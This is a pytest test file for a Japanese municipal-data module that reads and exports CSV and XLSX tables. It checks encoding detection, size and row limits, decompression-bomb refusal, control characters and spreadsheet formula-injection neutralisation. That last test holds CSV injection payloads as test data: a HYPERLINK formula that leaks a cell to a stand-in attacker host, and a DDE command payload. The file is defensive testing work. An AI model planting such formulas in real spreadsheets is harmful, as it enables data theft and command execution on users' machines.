import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from chiiki.core.tabular import (
    TableError,
    csv_bytes,
    format_size,
    read_limited,
    read_table,
    require_columns,
    table_response,
    xlsx_bytes,
)

CSV_TEXT = "団体コード,分野,年度\r\n011002,教育,２０２６\r\n\r\n１３１０１６,　防災　,R8\r\n"
EXPECTED_ROWS = [
    (2, {"団体コード": "011002", "分野": "教育", "年度": "2026"}),
    (4, {"団体コード": "131016", "分野": "防災", "年度": "R8"}),
]


def rows_of(table):
    return [(row.number, row.values) for row in table.rows]


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (CSV_TEXT.encode("utf-8"), "utf-8"),
        (CSV_TEXT.encode("utf-8-sig"), "utf-8-sig"),
        (CSV_TEXT.encode("cp932"), "cp932"),
        (CSV_TEXT.replace("\r\n", "\n").encode("shift_jis"), "cp932"),
    ],
    ids=["utf-8", "utf-8-bom", "cp932", "shift_jis-lf"],
)
def test_csv_encodings_are_detected(data, encoding):
    table = read_table(data, "progress.csv")
    assert table.encoding == encoding
    assert table.header == ["団体コード", "分野", "年度"]
    assert rows_of(table) == EXPECTED_ROWS


def test_short_cp932_file_without_bom_is_read():
    """Too short for statistical detection: a header only, as Excel saves it."""
    table = read_table("団体コード,分野\r\n".encode("cp932"), "empty.csv")
    assert table.header == ["団体コード", "分野"]
    assert table.rows == []
    assert table.encoding == "cp932"


def test_cp932_specific_characters():
    text = "団体コード,備考\r\n011002,①髙橋さん～ＮＥＣ製\r\n"  # NEC special, IBM extension, full-width tilde
    table = read_table(text.encode("cp932"), "notes.csv")
    assert table.encoding == "cp932"
    assert table.rows[0].values["備考"] == "①髙橋さん～ＮＥＣ製"


def test_row_numbers_are_those_of_the_file():
    text = "\n団体コード,分野\n\n011002,教育\n\n\n131016,防災\n"
    table = read_table(text.encode(), "gaps.csv")
    assert table.header_number == 2
    assert [row.number for row in table.rows] == [4, 7]


def test_quoted_multiline_cell_is_one_row_as_in_excel():
    text = '団体コード,備考\n011002,"一行目\n二行目"\n131016,次の行\n'
    table = read_table(text.encode(), "multiline.csv")
    assert rows_of(table) == [(2, {"団体コード": "011002", "備考": "一行目\n二行目"}), (3, {"団体コード": "131016", "備考": "次の行"})]


def test_short_rows_are_padded_and_trailing_empty_header_cells_dropped():
    table = read_table(b"a,b,c,,\n1\n", "short.csv")
    assert table.header == ["a", "b", "c"]
    assert rows_of(table) == [(2, {"a": "1", "b": "", "c": ""})]


def test_header_aliases_map_to_canonical_names():
    table = read_table("ｺｰﾄﾞ,人口\n13101,66680\n".encode("cp932"), "p.csv", header_aliases={"ｺｰﾄﾞ": "団体コード"})
    assert table.header == ["団体コード", "人口"]


def test_full_width_digits_and_spaces_are_normalised():
    table = read_table("コード,値\n　０１１００２　,１，９７３，３９５\n".encode(), "w.csv")
    values = table.rows[0].values
    assert values["コード"] == "011002"
    assert values["値"] == "1，973，395"  # only digits and spaces are folded; the caller parses numbers


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "ファイルが空です"),
        (b"\r\n\r\n", "ヘッダー行がありません"),
        (b"\xef\xbb\xbf", "ヘッダー行がありません"),
        ("団体コード,分野,団体コード\n011002,教育,011002\n".encode(), "ヘッダーに同じ列名が複数あります: 団体コード"),
        ("団体コード,分野\n011002,教育\n131016,防災,余計な値\n".encode(), "3行目: ヘッダーのない列（3列目）に値があります"),
        ('団体コード,備考\n011002,"閉じていない\n'.encode(), "CSVとして読み込めません"),
        ('団体コード,備考\n011002,"値"のあと\n'.encode(), "CSVとして読み込めません（2行目付近）"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "Excel 97-2003 形式（.xls）は読み込めません"),
        (b"PK\x03\x04 not really a zip", "XLSXファイルを読み込めません"),
    ],
)
def test_unreadable_files_raise_table_error_in_japanese(data, message):
    with pytest.raises(TableError) as excinfo:
        read_table(data, "bad.csv")
    assert message in str(excinfo.value)


def test_require_columns_names_the_missing_ones():
    table = read_table("団体コード,年度\n011002,2026\n".encode(), "t.csv")
    require_columns(table, ["団体コード", "年度"])
    with pytest.raises(TableError, match="必須の列がありません: 分野, 段階"):
        require_columns(table, ["団体コード", "分野", "段階"])


def make_xlsx(cells: dict[str, object]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for ref, value in cells.items():
        sheet[ref] = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_is_read_with_excel_row_numbers():
    data = make_xlsx(
        {
            "A2": "団体コード", "B2": "人口", "C2": "調査日",
            "A3": "011002", "B3": 1973395, "C3": dt.datetime(2020, 10, 1),
            "A5": 13101, "B5": 66680.0, "C5": dt.date(2020, 10, 1),
        }
    )
    table = read_table(data, "population.xlsx")
    assert table.encoding == "xlsx"
    assert table.header_number == 2
    assert rows_of(table) == [
        (3, {"団体コード": "011002", "人口": "1973395", "調査日": "2020-10-01"}),
        (5, {"団体コード": "13101", "人口": "66680", "調査日": "2020-10-01"}),
    ]


def test_xlsx_detected_by_content_whatever_the_name():
    data = make_xlsx({"A1": "a", "A2": "1"})
    assert read_table(data, "renamed.csv").encoding == "xlsx"


def test_csv_bytes_is_excel_friendly():
    body = csv_bytes(["団体コード", "名称", "備考"], [["011002", "札幌市", None], ["131016", "千代田区", 'カンマ, と "引用符"']])
    assert body.startswith(b"\xef\xbb\xbf")
    text = body[3:].decode("utf-8")
    assert text == '団体コード,名称,備考\r\n011002,札幌市,\r\n131016,千代田区,"カンマ, と ""引用符"""\r\n'


def test_csv_export_reads_back_unchanged():
    header = ["団体コード", "名称", "備考"]
    rows = [["011002", "札幌市", "一行目\n二行目"], ["131016", "千代田区", ""]]
    table = read_table(csv_bytes(header, rows), "export.csv")
    assert table.header == header
    assert [list(row.values.values()) for row in table.rows] == rows


def test_xlsx_round_trip_keeps_codes_as_text_and_formulas_as_text():
    header = ["団体コード", "名称", "人口", "備考"]
    rows = [["011002", "札幌市", 1973395, "=危険な式ではなく文字"], ["010006", "北海道", None, ""]]
    data = xlsx_bytes(header, rows, title="団体一覧")
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert sheet.title == "団体一覧"
    assert sheet["A2"].value == "011002" and sheet["A2"].data_type == "s"
    assert sheet["C2"].value == 1973395
    assert sheet["D2"].data_type == "s"
    table = read_table(data, "export.xlsx")
    assert table.header == header
    assert rows_of(table) == [
        (2, {"団体コード": "011002", "名称": "札幌市", "人口": "1973395", "備考": "=危険な式ではなく文字"}),
        (3, {"団体コード": "010006", "名称": "北海道", "人口": "", "備考": ""}),
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_response_is_a_named_attachment(fmt):
    response = table_response(fmt, "団体一覧_2026", ["団体コード"], [["011002"]])
    disposition = response["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="_____2026.{fmt}"')
    assert f"filename*=UTF-8''%E5%9B%A3%E4%BD%93%E4%B8%80%E8%A6%A7_2026.{fmt}" in disposition
    if fmt == "csv":
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response.content.startswith(b"\xef\xbb\xbf")
    else:
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        assert read_table(response.content, "x.xlsx").rows[0].values == {"団体コード": "011002"}


def test_table_response_rejects_unknown_format():
    with pytest.raises(ValueError):
        table_response("pdf", "x", ["a"], [])


# ---- bounded reading (docs/decisions/0009) -------------------------------------------------------------------

def strip_dimension(data: bytes) -> bytes:
    """The same XLSX without its <dimension> (the reader must find the real extent itself)."""
    import re
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                content = re.sub(rb"<dimension [^>]*/>", b"", content)
            target.writestr(info.filename, content)
    return out.getvalue()


def test_xlsx_empty_formatted_cells_far_right_are_ignored():
    from openpyxl.styles import Font

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["団体コード", "人口"])
    sheet.append(["011002", 1973395])
    sheet["XFD2"].font = Font(bold=True)  # a formatted cell without a value
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = read_table(strip_dimension(buffer.getvalue()), "styled.xlsx")
    assert rows_of(table) == [(2, {"団体コード": "011002", "人口": "1973395"})]


def test_xlsx_that_unpacks_beyond_ten_times_the_size_limit_is_refused_before_parsing():
    data = make_xlsx({"A1": "備考", **{f"A{row}": "a" * 30_000 for row in range(2, 12)}})  # compresses to little
    assert len(data) < 8_000
    with pytest.raises(TableError, match=r"XLSXファイルの展開後の大きさ（.*）が上限（78.1KB）を超えています"):
        read_table(data, "bomb.xlsx", max_bytes=8_000)
    assert len(read_table(data, "bomb.xlsx").rows) == 10


def test_xlsx_rows_out_of_order_are_refused_not_dropped():
    data = make_xlsx({"A1": "団体コード", "A2": "011002", "A3": "131016"})
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                content = content.replace(b'<row r="3"', b'<row r="2"', 1).replace(b'r="A3"', b'r="A2"')
            target.writestr(info.filename, content)
    with pytest.raises(TableError, match="行の順序が正しくありません（2行目）"):
        read_table(out.getvalue(), "odd.xlsx")


def test_a_quoted_cell_full_of_commas_is_not_counted_as_columns():
    table = read_table(('団体コード,備考\n011002,"' + "、," * 5000 + '"\n').encode(), "commas.csv", max_columns=3)
    assert table.rows[0].values["備考"] == "、," * 5000


def test_row_limit_counts_file_rows_and_ignores_blank_rows_beyond_it():
    assert len(read_table(b"a\n1\n2\n\n\n\n", "t.csv", max_rows=3).rows) == 2
    with pytest.raises(TableError, match="4行目に値があります。読み込めるのは3行目までです"):
        read_table(b"a\n1\n2\n3\n", "t.csv", max_rows=3)


def test_size_limit_and_read_limited():
    with pytest.raises(TableError, match=r"ファイルが大きすぎます（1KBまで）"):
        read_table(b"a\n" + b"1\n" * 600, "big.csv", max_bytes=1024)

    class Counting(io.BytesIO):
        requested = 0

        def read(self, size=-1):
            Counting.requested += size
            return super().read(size)

    source = Counting(b"x" * 5000)
    assert read_limited(source, max_bytes=1000) == b"x" * 1001
    assert Counting.requested == 1001
    assert read_limited(io.BytesIO(b"short"), max_bytes=1000) == b"short"


@pytest.mark.parametrize(("size", "text"), [(20 * 1024 * 1024, "20MB"), (1536, "1.5KB"), (2048, "2KB"), (10, "10バイト")])
def test_format_size(size, text):
    assert format_size(size) == text


@pytest.mark.parametrize(("text", "encoding"), [
    ("café,prix\r\n1,2\r\n", "latin-1"),
    ("name,city\r\nfaçade,Ärger\r\n", "latin-1"),  # decodes as CP932 to fa軋de,ﾄrger: mojibake, not Japanese
    ("It’s “quoted” — don’t\r\n", "cp1252"),
    ("ｻｯﾎﾟﾛｼ\r\n", "cp932"),  # half-width katakana alone cannot be told from Latin-1 accents
    ("団体コード,備考\r\n", "utf-16"),
])
def test_text_that_cannot_be_decoded_confidently_is_refused_naming_candidates(text, encoding):
    with pytest.raises(TableError, match=r"ファイルの文字コードを判別できません（推定される候補: [^）]+）。UTF-8"):
        read_table(text.encode(encoding), "x.csv")


@pytest.mark.parametrize("text", [
    "code,name\r\n1,札\r\n",  # a single kanji
    "市区町村,人口\r\n札幌市,1973395\r\n",
    "団体コード,備考\r\n1,IoT化\r\n2,DX化\r\n",
    "団体コード,備考\r\n011002,①Ⅱ㈱℃→≒■★§×α\r\n",
])
def test_cp932_japanese_is_still_read(text):
    table = read_table(text.encode("cp932"), "sjis.csv")
    assert table.encoding == "cp932"
    assert [table.header, *[list(r.values.values()) for r in table.rows]] == [
        line.split(",") for line in text.strip().split("\r\n")]


def test_bom_with_invalid_utf8_is_a_table_error():
    with pytest.raises(TableError, match="UTF-8（BOM付き）として読めないバイトがあります"):
        read_table(b"\xef\xbb\xbfa,b\n\x82\xa0,1\n", "x.csv")


@pytest.mark.parametrize(("data", "message"), [
    ("団体コード,備考\n011002,前\x00後\n".encode(), "2行目「備考」（2列目）: 制御文字（U+0000 NUL）が含まれています"),
    ("団体\x01コード,備考\n".encode(), "1行目（1列目）: 制御文字（U+0001）が含まれています"),
    (b"a,b\n1,2,\x1f\n", "2行目（3列目）: 制御文字（U+001F）が含まれています"),
])
def test_control_characters_are_refused_naming_row_and_column(data, message):
    with pytest.raises(TableError) as excinfo:
        read_table(data, "ctl.csv")
    assert str(excinfo.value).startswith(message)


def test_control_characters_cannot_come_through_xlsx():
    """XML 1.0 cannot hold them, not even as &#27;: such a sheet is refused as unreadable."""
    import zipfile

    data = make_xlsx({"A1": "団体コード", "B1": "備考", "A2": "011002", "B2": "XCTLX"})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename).replace(b"XCTLX", b"a&#27;b"))
    with pytest.raises(TableError, match="XLSXファイルを読み込めません"):
        read_table(out.getvalue(), "ctl.xlsx")


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
            "\t=1+1", "\r=1+1", "-", "-5℃", "'=x", "''=x", "'abc", "'", "ふつう"]


def test_csv_bytes_neutralises_formulas_and_read_table_restores_them_exactly():
    body = csv_bytes(["番号", "備考", "数"], [[i, value, -5] for i, value in enumerate(FORMULAS)])
    lines = body[3:].decode().split("\r\n")
    assert lines[1:5] == ['0,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",-5', "1,'@SUM(1+1),-5",
                          "2,'+cmd|' /C calc'!A0,-5", "3,'-2+3,-5"]
    assert lines[5] == "4,'\t=1+1,-5" and lines[6] == "5,\"'\r=1+1\",-5" and lines[7] == "6,'-,-5"
    assert lines[9:13] == ["8,''=x,-5", "9,'''=x,-5", "10,'abc,-5", "11,',-5"]  # only a quote before a formula
    table = read_table(body, "export.csv")
    assert [row.values["備考"] for row in table.rows] == FORMULAS
    assert {row.values["数"] for row in table.rows} == {"-5"}  # a number is not text: never prefixed


def test_xlsx_keeps_text_as_written_including_a_leading_quote():
    data = xlsx_bytes(["備考"], [[value] for value in ["'=x", "'-", "=1+1"]])
    assert [row.values["備考"] for row in read_table(data, "x.xlsx").rows] == ["'=x", "'-", "=1+1"]
